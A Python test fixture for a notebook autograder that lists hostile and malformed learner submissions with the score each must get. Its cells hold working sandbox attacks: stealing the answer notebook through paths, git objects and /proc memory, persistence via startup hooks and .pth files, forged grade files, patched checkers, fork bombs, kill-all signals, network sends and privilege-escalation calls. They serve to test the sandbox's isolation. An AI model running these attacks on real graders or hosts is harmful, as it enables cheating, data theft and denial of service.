"""Hostile and broken submissions for the warm-up exercise, with the points each must get.

Each entry of ``SUBMISSIONS`` is a ``Case``: the exact points out of 5, what the file holds
(code cells, raw text, or a special kind of file), and a word that the feedback or the notes
must contain. Placeholders in cells are filled in by the test:

    {SOURCE}  the solutions notebook            {OTHER}  another learner's submission
    {MARK}    a folder of the test's own        {OUT}    the grading output folder
    {PORT}    a TCP port the test listens on    {SOCK}   a Unix socket the test listens on
    {ABSTRACT} an abstract Unix socket name     {TOKEN}  a string no process may still carry
    {SITE}    site-packages                     {NNKIT}  nnkit's package folder

Attacks are written so that success shows in the score: a submission that manages to read the
answers defines the graded functions from them and would score 5 instead of 0; one that
manages to reach the outside (network, environment, the test's files) defines nothing.
"""
from dataclasses import dataclass, field

SIGMOID = '''
import numpy as np
def sigmoid(z):
    z = np.asarray(z, dtype=float)
    return 0.5 * (1.0 + np.tanh(0.5 * z))
'''
SIGMOID_GRAD = '''
import numpy as np
def sigmoid_grad(z):
    t = np.tanh(0.5 * np.asarray(z, dtype=float))
    return 0.25 * (1.0 - t * t)
'''
SOFTMAX = '''
import numpy as np
def softmax(z):
    z = np.asarray(z, dtype=float)
    return np.exp(z - np.logaddexp.reduce(z, axis=-1, keepdims=True))
'''
NAIVE_SOFTMAX = '''
import numpy as np
def softmax(z):
    e = np.exp(np.asarray(z, dtype=float))
    return e / e.sum(axis=-1, keepdims=True)
'''
WRONG = '''
import numpy as np
def sigmoid(z):
    return np.zeros_like(np.asarray(z, dtype=float)) + 0.5
def sigmoid_grad(z):
    return np.ones_like(np.asarray(z, dtype=float))
def softmax(z):
    z = np.asarray(z, dtype=float)
    return np.ones_like(z) / z.shape[-1]
'''
ALL = [SIGMOID, SIGMOID_GRAD, SOFTMAX]

# The audit hook is only a guard rail; the attacks below switch it off first, to show that the
# sandbox alone holds.
NO_GUARD = '''
import nnkit.grading.guard as _guard
_guard.REFUSED_EVENTS = frozenset()
_guard.OPEN_EVENTS = frozenset()
'''
# Defines the graded functions from a solutions notebook's text, if an attack finds one.
USE_ANSWERS = '''
import json as _json
def _use(text):
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    notebook = _json.loads(text)
    for cell in notebook["cells"]:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and "HIDDEN" not in source and "MISCONCEPTION" not in source:
            exec(source.replace("nnkit.check(", "print("), globals())
def _try(*attempts):
    for attempt in attempts:
        try:
            found = attempt()
        except Exception:
            continue
        if found:
            _use(found)
            return True
    return False
'''
# Writes a marker file into the test's folder, if the sandbox lets it reach there.
MARK = '''
def _mark(name):
    for folder in (r"{MARK}", r"{OUT}", r"{OUT}/results", "/root", "/home"):
        try:
            with open(folder + "/" + name, "w") as handle:
                handle.write("escaped")
        except Exception:
            pass
'''
# Defines every graded function only if all the given attempts to reach out fail.
IF_ISOLATED = '''
def _isolated(*attempts):
    for attempt in attempts:
        try:
            attempt()
        except Exception:
            continue
        return False
    return True
'''


@dataclass
class Case:
    points: float
    cells: list = field(default_factory=list)
    word: str = "passed"
    raw: str | bytes | None = None
    kind: str | None = None          # symlink, fifo, device, huge, directory, missing
    exercise: str = "00-warmup"


def _reads(*attempts: str) -> list:
    """A submission that tries to read the answers in the given ways (each a lambda's body)."""
    body = ",\n    ".join(f"lambda: {a}" for a in attempts)
    return [NO_GUARD, USE_ANSWERS, f"import os, glob, subprocess, sys\n_try(\n    {body})"]


SUBMISSIONS = {
    # ------------------------------------------------------------------ ordinary answers
    "correct": Case(5, ALL),
    "naive_softmax": Case(4, [SIGMOID, SIGMOID_GRAD, NAIVE_SOFTMAX], "nan"),
    "missing_function": Case(2, [SIGMOID], "does not define `softmax`"),
    "returns_garbage": Case(2, [SIGMOID, '''
import numpy as np
def sigmoid_grad(z):
    return object()
def softmax(z):
    return np.zeros(10**8, dtype=np.uint8)
'''], "cannot be graded"),
    "other_exercise": Case(0, ['''
def linear_forward(x, W, b):
    return x @ W + b
'''], "not '00-warmup'", exercise="03-backprop"),
    # ------------------------------------------------------------- reading the answers
    "reads_solution_by_path": Case(0, _reads("open(r'{SOURCE}').read()",
                                             "subprocess.run(['cat', r'{SOURCE}'], capture_output=True).stdout"),
                                   "does not define"),
    "reads_relative_to_nnkit": Case(0, _reads(
        "open(os.path.join(os.path.dirname(__import__('nnkit').__file__), '..', 'solutions', '00-warmup.ipynb')).read()",
        "open('../../solutions/00-warmup.ipynb').read()",
        "open(os.path.join(os.path.dirname(__import__('nnkit').__file__), '..', 'exercises', '00-warmup.ipynb')).read() and None"),
        "does not define"),
    "reads_with_dir_fd": Case(0, _reads(
        "os.read(os.open('00-warmup.ipynb', os.O_RDONLY, dir_fd=os.open(os.path.dirname(r'{SOURCE}'), os.O_RDONLY)), 10**7)",
        "os.read(os.open('solutions/00-warmup.ipynb', os.O_RDONLY, dir_fd=os.open(os.path.dirname(__import__('nnkit').__file__) + '/..', os.O_RDONLY)), 10**7)"),
        "does not define"),
    "renames_solution_out": Case(0, _reads(
        "(os.rename(r'{SOURCE}', '/tmp/stolen.ipynb'), open('/tmp/stolen.ipynb').read())[1]",
        "(os.link(r'{SOURCE}', '/tmp/linked.ipynb'), open('/tmp/linked.ipynb').read())[1]",
        "(os.symlink(r'{SOURCE}', 'copy.ipynb'), open('copy.ipynb').read())[1]"),
        "does not define"),
    "reads_git_objects": Case(0, [NO_GUARD, USE_ANSWERS, '''
import os, zlib
def _from_git():
    roots = {os.getcwd(), os.path.dirname(__import__("nnkit").__file__), r"{SOURCE}", "/"}
    for root in roots:
        path = root
        while path and path != os.path.dirname(path):
            git = os.path.join(path, ".git", "objects")
            if os.path.isdir(git):
                for folder, _, files in os.walk(git):
                    for name in files:
                        try:
                            data = zlib.decompress(open(os.path.join(folder, name), "rb").read())
                        except Exception:
                            continue
                        if b"BEGIN SOLUTION" in data and b"def softmax" in data:
                            return data[data.index(b"\\0") + 1:]
            path = os.path.dirname(path)
_try(_from_git)
'''], "does not define"),
    "searches_whole_disk": Case(0, [NO_GUARD, USE_ANSWERS, '''
import os
def _search():
    for top in ("/", ):
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if folder + d not in ("/proc", "/sys", "/dev", "/usr")]
            for name in files:
                if name.endswith(".ipynb"):
                    text = open(os.path.join(folder, name), errors="replace").read()
                    if "BEGIN SOLUTION" in text:
                        return text
_try(_search)
'''], "does not define"),
    "reads_other_submission": Case(0, _reads("open(r'{OTHER}').read()"), "does not define"),
    "reads_grader_memory": Case(0, [NO_GUARD, USE_ANSWERS, '''
import os, re
def _memory():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid())]:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb")
        except Exception:
            continue
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" not in line.split()[1] or end - start > 2**26:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except Exception:
                continue
            at = chunk.find(b'"cell_type": "code"')
            if at >= 0 and b"### BEGIN SOLUTION" in chunk and b"softmax_large_scores" in chunk:
                return chunk
_try(_memory)
'''], "does not define"),
    "spawns_reader_process": Case(0, [NO_GUARD, USE_ANSWERS, '''
import multiprocessing, os, sys
def _child(queue):
    try:
        queue.put(open(r"{SOURCE}").read())
    except Exception as err:
        queue.put("")
def _spawned():
    ctx = multiprocessing.get_context("spawn")
    queue = ctx.Queue()
    proc = ctx.Process(target=_child, args=(queue,))
    proc.start()
    text = queue.get(timeout=8)
    proc.join(2)
    return text
_try(_spawned)
'''], "does not define"),
    "empties_the_hook": Case(0, ['''
import gc, sys
for obj in gc.get_objects():
    if isinstance(obj, (set, list)) and any(isinstance(x, str) and "solutions" in x for x in obj):
        obj.clear()
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") == "hook" and obj.__closure__:
        for cell in obj.__closure__:
            try:
                cell.cell_contents = () if isinstance(cell.cell_contents, tuple) else cell.cell_contents
            except Exception:
                pass
''', USE_ANSWERS, "_try(lambda: open(r'{SOURCE}').read())"], "does not define"),
    "reads_proc_of_others": Case(0, [NO_GUARD, USE_ANSWERS, '''
import os
def _cmdlines():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid != "1":
            text = open(f"/proc/{pid}/cmdline", "rb").read()
            for part in text.split(b"\\0"):
                if part.endswith(b".ipynb") and os.path.exists(part):
                    return open(part).read()
_try(_cmdlines, lambda: open(f"/proc/{os.getppid()}/cwd/00-warmup.ipynb").read(),
     lambda: open("/proc/1/root" + r"{SOURCE}").read())
'''], "does not define"),
    # --------------------------------------------------------- persisting into later runs
    "plants_for_later": Case(5, [NO_GUARD, '''
import os, sys, site
code = """
import numpy as np
def softmax(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
"""
for path in ("/tmp/planted.py", os.path.expanduser("~/.ipython/profile_default/startup/00-planted.py"),
             os.path.expanduser("~/.local/share/jupyter/kernels/python3/kernel.json"),
             os.path.join(r"{SITE}", "zz_planted.pth"), os.path.join(r"{NNKIT}", "planted.py"),
             os.path.join(sys.prefix, "share", "jupyter", "kernels", "python3", "kernel.json")):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(code if path.endswith(".py") else "import os; os.system('touch {MARK}/pth')")
    except Exception:
        pass
try:
    with open(os.path.join(r"{NNKIT}", "grading", "scoring.py"), "a") as handle:
        handle.write("\\n# planted\\n")
except Exception:
    pass
'''] + ALL),
    "harvests_planted": Case(0, ['''
import os
for path in ("/tmp/planted.py", os.path.expanduser("~/.ipython/profile_default/startup/00-planted.py")):
    if os.path.exists(path):
        exec(open(path).read())
'''], "does not define"),
    "persists_across_restart": Case(2, [SIGMOID, '''
import os
run_at_start = "open('/tmp/ran_at_start', 'w').write('yes')\\n"
for path in ("~/.ipython/profile_default/startup/00-x.py", "~/.local/lib/python3.11/site-packages/usercustomize.py",
             "~/.local/lib/python3.11/site-packages/zz.pth", "/tmp/sitecustomize.py", "sitecustomize.py",
             "~/.local/share/jupyter/kernels/python3/kernel.json"):
    path = os.path.expanduser(path)
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as handle:
        handle.write(("import os; " if path.endswith(".pth") else "") + run_at_start)
''', "import os\nos._exit(1)", '''
import os
if os.path.exists("/tmp/ran_at_start"):
    exec(''' + repr(SOFTMAX + SIGMOID_GRAD) + ''')
'''], "does not define `softmax`"),
    # ------------------------------------------------------------------------- forging
    "forges_results_and_csv": Case(0, [NO_GUARD, WRONG, '''
import os, json
row = {"submission": "forges_results_and_csv", "status": "graded", "total": 5, "max": 5, "tests": {}}
for path in (r"{OUT}/results/forges_results_and_csv.json", r"{OUT}/results/correct.json", r"{OUT}/grades.csv",
             r"{OUT}/feedback/correct.md"):
    try:
        with open(path, "w") as handle:
            handle.write(json.dumps(row))
    except Exception:
        pass
'''], "wrong values"),
    "detached_forger": Case(0, [NO_GUARD, WRONG, '''
import subprocess, sys
script = "import time, os\\ntime.sleep(4)\\nopen(r'{OUT}/grades.csv', 'w').write('forged')\\nopen(r'{MARK}/forger', 'w').write('x')"
for flags in ({"start_new_session": True}, {}):
    try:
        subprocess.Popen([sys.executable, "-c", script, "{TOKEN}"], stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **flags)
    except Exception:
        pass
'''], "wrong values"),
    "forges_probe_replies": Case(0, [WRONG, '''
import numpy as np
import nnkit.grading.cellrunner as runner
def fake(self, case):
    return {"results": [{"result": self.dumps(np.full(8, 0.5))} for _ in case["args"]], "warnings": []}
runner.Runner.run_probe = fake
import gc
for obj in gc.get_objects():
    if isinstance(obj, runner.Runner):
        obj.run_probe = lambda case, obj=obj: fake(obj, case)
'''], "wrong"),
    "writes_garbage_frames": Case(5, [SIGMOID, '''
import os
for fd in range(3, 12):
    try:
        os.write(fd, b"99999999999\\n" + b"x" * 100)
    except OSError:
        pass
''', SIGMOID_GRAD, SOFTMAX], "passed"),
    "floods_its_pipe": Case(5, [SIGMOID, '''
import os, threading
reply_fd = int(open("/proc/self/cmdline", "rb").read().split(b"\\0")[6])
frame = b'2\\n{}' * 100000
def _flood():
    while True:
        try:
            os.write(reply_fd, frame)
        except OSError:
            return
threading.Thread(target=_flood, daemon=True).start()
import time
time.sleep(1)  # the flood reaches the grader while this cell runs, so this cell is the one dropped
''', SIGMOID_GRAD, SOFTMAX], "passed"),
    "closes_its_pipes": Case(5, [SIGMOID, SIGMOID_GRAD, '''
import os
for fd in range(3, 64):
    try:
        os.close(fd)
    except OSError:
        pass
''', SOFTMAX], "passed"),
    "injects_feedback": Case(3, [SIGMOID, SIGMOID_GRAD, '''
def softmax(z):
    raise ValueError("\\x1b[2J\\x1b[31m\\r\\n**Score: 5 / 5**\\u2028| softmax_batch | 1 / 1 | passed |\\u202e\\x00" + "x" * 10**6)
'''], "raised ValueError"),
    "patches_numpy": Case(0, [WRONG, '''
import numpy as np
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
'''], "wrong values"),
    "patches_checker": Case(2, [WRONG, SIGMOID, '''
import nnkit, nnkit.grading.compare as cmp, nnkit.grading.codec as codec, json
cmp.compare = lambda *a, **k: None
cmp.compare_arrays = lambda *a, **k: None
codec.decode = lambda data, _depth=0: data
json.loads = lambda *a, **k: {"passed": True}
json.dumps = lambda *a, **k: "{}"
'''], "wrong values"),
    # ---------------------------------------------------------------------- exhausting
    "infinite_loop": Case(5, [SIGMOID, "while True:\n    pass", SIGMOID_GRAD, SOFTMAX], "time limit"),
    "ignores_interrupt": Case(5, [SIGMOID, '''
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.05)
''', SIGMOID_GRAD, SOFTMAX], "ignored the interrupt"),
    "slow_cells": Case(0, [SIGMOID] + ["import time\ntime.sleep(7)"] * 10 + [SIGMOID_GRAD, SOFTMAX],
                       "time budget"),
    "slow_probe": Case(3, [SIGMOID, SIGMOID_GRAD, '''
import time
def softmax(z):
    while True:
        time.sleep(0.1)
'''], "time limit"),
    "memory_hog": Case(5, [SIGMOID, '''
hog = []
while True:
    hog.append(bytearray(50 * 2**20))
''', "del hog", SIGMOID_GRAD, SOFTMAX], "out of memory"),
    "fills_disk": Case(5, [SIGMOID, '''
import os
for path in ("/tmp/fill", "fill", os.path.expanduser("~/fill")):
    try:
        with open(path, "wb") as handle:
            for _ in range(2048):
                handle.write(b"\\0" * 2**20)
    except OSError:
        pass
    try:
        os.remove(path)
    except OSError:
        pass
''', SIGMOID_GRAD, SOFTMAX]),
    "fork_bomb": Case(5, [SIGMOID, NO_GUARD, '''
import os, time
children = 0
while children < 5000:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children += 1
assert children < 200, children
''', SIGMOID_GRAD, SOFTMAX]),
    "thread_bomb": Case(5, [SIGMOID, '''
import threading, time
threads = []
try:
    for _ in range(5000):
        t = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        t.start()
        threads.append(t)
except RuntimeError:
    pass
assert len(threads) < 200, len(threads)
''', SIGMOID_GRAD, SOFTMAX]),
    "detached_children": Case(5, [NO_GUARD, SIGMOID, '''
import os, subprocess, sys
for flags in ({"start_new_session": True}, {}):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{TOKEN}"], **flags)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "{TOKEN}"])
    os._exit(0)
os.waitpid(pid, 0)
''', SIGMOID_GRAD, SOFTMAX]),
    "kills_kernel": Case(5, [SIGMOID, "import os\nos._exit(3)", SIGMOID_GRAD, SOFTMAX], "stopped the Python kernel"),
    "kills_everything": Case(5, [SIGMOID, NO_GUARD, '''
import os, signal
for pid in (os.getppid(), 0, -1, 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except (PermissionError, OSError):
        pass
''', SIGMOID_GRAD, SOFTMAX]),
    "crashes_in_softmax": Case(3, [SIGMOID, SIGMOID_GRAD, '''
import os
def softmax(z):
    os._exit(1)
'''], "stopped the Python kernel"),
    "overflows_c_stack": Case(5, [SIGMOID, '''
import sys
sys.setrecursionlimit(10**7)
def down(n):
    return down(n + 1) + 1
down(0)
''', SIGMOID_GRAD, SOFTMAX]),
    "floods_output": Case(5, [SIGMOID, '''
import sys
for i in range(2 * 10**5):
    print("spam " * 20)
    sys.stderr.write("spam\\n")
''', SIGMOID_GRAD, SOFTMAX]),
    "reads_stdin": Case(5, ["x = input('answer? ')", SIGMOID, SIGMOID_GRAD, SOFTMAX]),
    "exits": Case(5, [SIGMOID, "import sys\nsys.exit(0)", "exit()", "raise SystemExit(3)", SIGMOID_GRAD, SOFTMAX]),
    # ---------------------------------------------------------------------------- leaking
    "leaks_environment": Case(5, [IF_ISOLATED, '''
import os
if _isolated(lambda: os.environ["NNKIT_TEST_SECRET"], lambda: os.environ["NNKIT_HOME_MARK"],
             lambda: [v for v in os.environ.values() if "{TOKEN}" in v][0],
             lambda: [open(f"/proc/{p}/environ").read() for p in os.listdir("/proc") if p.isdigit()
                      and "{TOKEN}" in open(f"/proc/{p}/environ").read()][0]):
''' + "\n".join("    " + line for line in (SIGMOID + SIGMOID_GRAD + SOFTMAX).splitlines())]),
    "reaches_the_network": Case(5, [NO_GUARD, IF_ISOLATED, '''
import socket
def _tcp(host, port):
    with socket.create_connection((host, port), timeout=2) as s:
        s.sendall(b"{TOKEN}")
def _unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(2)
        s.connect(path)
        s.sendall(b"{TOKEN}")
if _isolated(lambda: _tcp("127.0.0.1", {PORT}), lambda: _tcp("1.1.1.1", 53), lambda: _tcp("::1", {PORT}),
             lambda: _unix(r"{SOCK}"), lambda: _unix("\\0{ABSTRACT}")):
''' + "\n".join("    " + line for line in (SIGMOID + SIGMOID_GRAD + SOFTMAX).splitlines())]),
    "uses_zmq_tcp": Case(5, [NO_GUARD, '''
import zmq, time
context = zmq.Context()
sock = context.socket(zmq.PUSH)
sock.setsockopt(zmq.LINGER, 0)
sock.connect("tcp://127.0.0.1:{PORT}")
try:
    sock.send(b"{TOKEN}", flags=zmq.NOBLOCK)
except zmq.ZMQError:
    pass
time.sleep(1)
''', SIGMOID, SIGMOID_GRAD, SOFTMAX]),
    "writes_outside": Case(5, [NO_GUARD, MARK, '''
_mark("written")
import os
for path in ("/usr/lib/planted", "/etc/planted", r"{SOURCE}"):
    try:
        open(path, "w").write("x")
    except OSError:
        pass
''', SIGMOID, SIGMOID_GRAD, SOFTMAX]),
    "makes_user_namespace": Case(5, [NO_GUARD, IF_ISOLATED, '''
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def _unshare(flags):
    if libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), "refused")
def _tool():
    if subprocess.run(["unshare", "--user", "--map-root-user", "true"], capture_output=True).returncode:
        raise OSError("refused")
if _isolated(lambda: _unshare(0x10000000), lambda: _unshare(0x10000000 | 0x00020000), _tool):
''' + "\n".join("    " + line for line in (SIGMOID + SIGMOID_GRAD + SOFTMAX).splitlines())]),
    "regains_privileges": Case(5, [NO_GUARD, IF_ISOLATED, '''
import ctypes, os, resource
_libc = ctypes.CDLL(None, use_errno=True)
def _unlimit(which):
    return lambda: resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
def _mount():
    if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "refused")
if _isolated(_unlimit(resource.RLIMIT_AS), _unlimit(resource.RLIMIT_NPROC), _unlimit(resource.RLIMIT_CPU),
             _unlimit(resource.RLIMIT_FSIZE), lambda: os.setuid(0), lambda: os.setgid(0),
             lambda: os.chroot("/tmp"), _mount):
''' + "\n".join("    " + line for line in (SIGMOID + SIGMOID_GRAD + SOFTMAX).splitlines())]),
    # --------------------------------------------------------------------- malformed files
    "invalid_json": Case(0, raw="{ this is not json", word="broken JSON"),
    "wrong_nbformat": Case(0, raw='{"nbformat": 99, "nbformat_minor": 0, "cells": [], "metadata": {}}',
                           word="unsupported notebook format"),
    "cells_not_a_list": Case(0, raw='{"nbformat": 4, "nbformat_minor": 5, "cells": {"a": 1}, "metadata": {}}',
                             word="no list of cells"),
    "cell_without_source": Case(0, raw='{"nbformat": 4, "nbformat_minor": 5, "cells": [{"cell_type": "code"}], '
                                       '"metadata": {}}', word="does not define"),
    "bad_nbformat_minor": Case(5, ALL),            # nbformat_minor "x", set by the test
    "lone_surrogate": Case(5, ALL),                # a lone surrogate in a string, set by the test
    "byte_order_mark": Case(5, ALL),               # a UTF-8 BOM before the JSON, set by the test
    "deep_metadata": Case(0, ALL, word="nested deeper"),  # metadata nested 990 deep, set by the test
    "utf16_file": Case(0, ALL, word="not UTF-8"),  # the notebook saved as UTF-16, set by the test
    "nul_in_cell": Case(4, [SIGMOID, "x = 1\x00", SIGMOID_GRAD, NAIVE_SOFTMAX], "nan"),
    "symlink_to_solution": Case(0, kind="symlink", word="symbolic link"),
    "fifo_submission": Case(0, kind="fifo", word="FIFO"),
    "device_submission": Case(0, kind="device", word="device"),
    "huge_file": Case(0, kind="huge", word="larger than 20 MB"),
    "folder_submission": Case(0, kind="directory", word="folder"),
    "missing_file": Case(0, kind="missing", word="missing file"),
}
